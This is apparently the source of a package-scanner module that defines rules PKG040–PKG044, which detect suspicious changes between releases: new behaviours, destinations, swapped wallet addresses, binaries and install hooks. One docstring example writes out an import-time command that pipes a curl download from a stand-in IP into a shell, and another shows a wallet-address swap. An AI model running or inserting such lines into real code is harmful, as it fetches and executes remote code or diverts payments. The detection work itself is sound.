"""PKG040-PKG044: what a new release of a package does that the release before it did not.

These rules are raised by ``outwork diff OLD NEW`` (``analyzers/packages/diff.py``), which runs
the packages layer on both releases and compares what it found, the files they ship, and the
constants of the code they have in common. A scan of one package never raises them.
"""

from __future__ import annotations

import enum
from collections.abc import Mapping
from typing import ClassVar

from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
from outwork.core.rules import Confidence, Layer, Rule, Severity

C, H, M, L, N = (
    Severity.CRITICAL,
    Severity.HIGH,
    Severity.MEDIUM,
    Severity.LOW,
    Severity.INFO,
)


class ReleaseAddsBehaviour(BehaviourRule):
    """A new release runs behaviour that the release before it did not.

    ## What it finds
    A behaviour the packages layer reports in the new release (a command, a network call, code
    run from a decoded string, a credential store read, a lifecycle script, a disguised
    executable...) with no counterpart in the old release: the same rule at the same place,
    or the same evidence moved to another file by a refactor, is the old behaviour. A behaviour
    that stayed but now runs earlier (a function that is now called at import time) is new
    too. Its severity follows the grade the layer gives the behaviour and when it runs.

    ## Why it matters
    A hijacked maintainer account or a poisoned build pipeline publishes the next version of a
    popular package with a payload added to otherwise unchanged code: a cryptocurrency miner
    downloaded at import time, a credential stealer in a new `postinstall` script. The release
    is trusted because its predecessors were; what changed is the only thing to read.

    ## Example
    ```python
    # mylib/__init__.py, new in 2.4.1; 2.4.0 had no such line
    import subprocess; subprocess.Popen("curl -s https://198.51.100.7/x | sh", shell=True)
    ```

    ## Remediation
    Do not upgrade to the release; pin the previous version, compare the release with the
    project's source repository, and tell the maintainers and the registry.

    ## References
    - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG040"
    name = "release-adds-behaviour"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (506,)
    attack = ("T1195.002",)
    inline_suppressible = False

    #: install, import, reached from import, only when called; the row is the grade the
    #: layer's own rule gives the new behaviour
    GRADED_CRITICAL = Variant("a new behaviour its rule grades critical", C, C, C, H)
    GRADED_HIGH = Variant("a new behaviour its rule grades high", C, H, H, M)
    GRADED_MEDIUM = Variant("a new behaviour its rule grades medium", H, M, M, L)
    GRADED_LOW = Variant("a new behaviour its rule grades low", M, L, L, N)


class DestinationKind(enum.Enum):
    """What a new network destination is, and whether install-time code names it."""

    SUSPICIOUS_INSTALL = (
        "a raw non-private address, paste site, webhook, bot or tunnel, in install-time code"
    )
    SUSPICIOUS = "a raw non-private address, paste site, webhook, bot or tunnel"
    DOMAIN_INSTALL = "a domain the old release never named, named by install-time code"
    DOMAIN = "a domain the old release never named"


class ReleaseAddsDestination(Rule):
    """A new release names a network destination that the release before it never named.

    ## What it finds
    URLs, raw IP addresses and `host:port` pairs written as string constants in the code of the
    new release (not in docstrings or comments) whose domain (registrable domain, from the
    Public Suffix List) or address appears nowhere in the old release. A string that is only a
    dotted name (`db.system.name`) is not counted: attribute and logger names look like hosts.
    One finding per new domain or address, at its first use. A new path or sub-domain of a
    domain the old release already named is not reported. Raw addresses outside loopback and
    private networks and the destinations the packages layer counts
    as suspicious (paste sites, webhooks, chat bots, tunnels, request bins) are high wherever
    they appear; an ordinary new domain is low, medium in install-time code. In a folder of
    tests, examples, docs or benchmarks every row is one step lower, never below low.

    ## Why it matters
    Exfiltration and command and control need a destination. A compromised release of a
    library that never talked to anyone except its own API now names a raw IP address or a
    Discord webhook; that is the line to read first.

    ## Example
    ```python
    TELEMETRY = "https://203.0.113.9/collect"   # new in 3.1.2
    ```

    ## Remediation
    Check why the release contacts the destination; if the project's repository does not
    explain it, do not upgrade and report the release.

    ## References
    - MITRE ATT&CK T1071 (Application Layer Protocol)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG041"
    name = "release-adds-destination"
    layer = Layer.PKG
    severity = Severity.LOW
    confidence = Confidence.MEDIUM
    cwe = (506,)
    attack = ("T1071",)
    inline_suppressible = False
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        DestinationKind.SUSPICIOUS_INSTALL: C,
        DestinationKind.SUSPICIOUS: H,
        DestinationKind.DOMAIN_INSTALL: M,
        DestinationKind.DOMAIN: L,
    }


class SwapKind(enum.Enum):
    """What constant was replaced inside code that is otherwise the same, and in whose package."""

    WALLET = "a cryptocurrency wallet address"
    DESTINATION_POPULAR = "a URL, host or IP address on another domain, in a popular package"
    DESTINATION = "a URL, host or IP address on another domain"


class ReleaseSwapsConstant(Rule):
    """A new release replaces a destination or a wallet address inside otherwise unchanged code.

    ## What it finds
    Statements of the old and new release are aligned by their structure (the syntax tree with
    string constants blanked, in the scope of the same function or class), not by line
    numbers, so code that moved keeps its partner. Where an aligned statement differs only in a
    string constant and the old and new values are both URLs, hosts or IP addresses on
    different domains (a host name alone counts here), or both cryptocurrency wallet addresses
    (Bitcoin, Ethereum, Tron, Litecoin, Solana forms, checked by their checksums where they
    have one), the swap is
    reported at the new statement, with the old one as related location. A wallet swap is
    critical; a destination swap is high in a package among the registry's most downloaded,
    medium in others; in a folder of tests, examples, docs or benchmarks one step lower. A
    change within one domain (a new API path, `http` to `https`) is not reported.

    ## Why it matters
    The quietest compromise changes one string: the address a wallet library pays to, the
    endpoint a client library sends credentials to. Every test still passes, the diff is one
    line, and the code looks exactly as trusted as before.

    ## Example
    ```python
    def donate(amount):
        return pay("0x52908400098527886E0F7030069857D2E4169EE7", amount)   # 1.0.3
        return pay("0x8617E340B3D01FA5F11F306F4090FD50E238070D", amount)   # 1.0.4
    ```

    ## Remediation
    Do not upgrade; compare the constant with the project's source repository and report a
    release whose published files differ from it.

    ## References
    - MITRE ATT&CK T1565.001 (Stored Data Manipulation)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG042"
    name = "release-swaps-constant"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (506,)
    attack = ("T1565.001",)
    inline_suppressible = False
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        SwapKind.WALLET: C,
        SwapKind.DESTINATION_POPULAR: H,
        SwapKind.DESTINATION: M,
    }


class BinaryKind(enum.Enum):
    """Whether the old release already shipped executables."""

    FIRST = "the first executable of a release line that shipped none"
    FURTHER = "another executable beside those the old release shipped"


class ReleaseAddsBinary(Rule):
    """A new release ships an executable (ELF, PE, Mach-O) that the release before it did not.

    ## What it finds
    Members whose content is a native executable or library and whose path (with version
    numbers and build hashes in file names set aside) is not in the old release. Medium when
    the old release shipped no executable at all, low beside executables it already shipped (a
    native package that gained an extension module). An executable with a false extension is
    also reported by PKG009, and a new one by PKG040.

    ## Why it matters
    A binary cannot be reviewed like source; a pure-Python or JavaScript package that suddenly
    ships one is how droppers and miners arrive without a download at install time.

    ## Example
    `mylib-2.0.1/mylib/_speedups.bin`, an ELF file, where `mylib-2.0.0` held only `.py` files.

    ## Remediation
    Ask why the release ships a binary and whether it can be rebuilt from source; until then
    keep the previous release.

    ## References
    - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG043"
    name = "release-adds-binary"
    layer = Layer.PKG
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    cwe = (506,)
    attack = ("T1195.002",)
    inline_suppressible = False
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        BinaryKind.FIRST: M,
        BinaryKind.FURTHER: L,
    }


class HookKind(enum.Enum):
    """A new way for the package's code to run without being called."""

    LIFECYCLE = "a new npm install lifecycle script, or a binding.gyp npm builds on install"
    PTH = "a new .pth file (run by every Python start-up)"
    LIFECYCLE_CHANGED = "an install lifecycle script whose command changed"
    PLUGIN = "a new plugin entry point (loaded by its host without being called)"
    SCRIPT = "a new console or GUI script, or npm bin"
    MODULE = "a new top-level module"


class ReleaseAddsStartupHook(Rule):
    """A new release adds a way for its code to run at install or start-up without being called.

    ## What it finds
    Compared with the old release: npm `preinstall`, `install`, `postinstall` and `prepare`
    scripts and `binding.gyp` (which npm builds on install) that are new (high) or whose
    command changed (medium); `.pth` files, which Python runs at every start of the
    interpreter (high); entry points in plugin groups, which a host such as pytest or an MCP
    client loads by itself (medium); console and GUI scripts and npm `bin` entries (low); and
    new top-level Python modules (low). What the new code then does is judged by PKG040.

    ## Why it matters
    The 2025 npm worm republished every package its stolen tokens could reach with a new
    `postinstall` that ran its payload; earlier campaigns added a `.pth` to a wheel so that
    the payload ran with every Python process. A hook is the step from shipping code to
    running it.

    ## Example
    ```json
    "scripts": {"postinstall": "node bundle.js"}
    ```
    in a version whose predecessor had no `scripts` at all.

    ## Remediation
    Install with `--ignore-scripts` (npm) or from a wheel you checked, and keep the previous
    release until the hook is explained by the project's repository.

    ## References
    - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain)
    - MITRE ATT&CK T1546.016 (Installer Packages)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG044"
    name = "release-adds-startup-hook"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (506,)
    attack = ("T1195.002", "T1546.016")
    inline_suppressible = False
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        HookKind.LIFECYCLE: H,
        HookKind.PTH: H,
        HookKind.LIFECYCLE_CHANGED: M,
        HookKind.PLUGIN: M,
        HookKind.SCRIPT: L,
        HookKind.MODULE: L,
    }
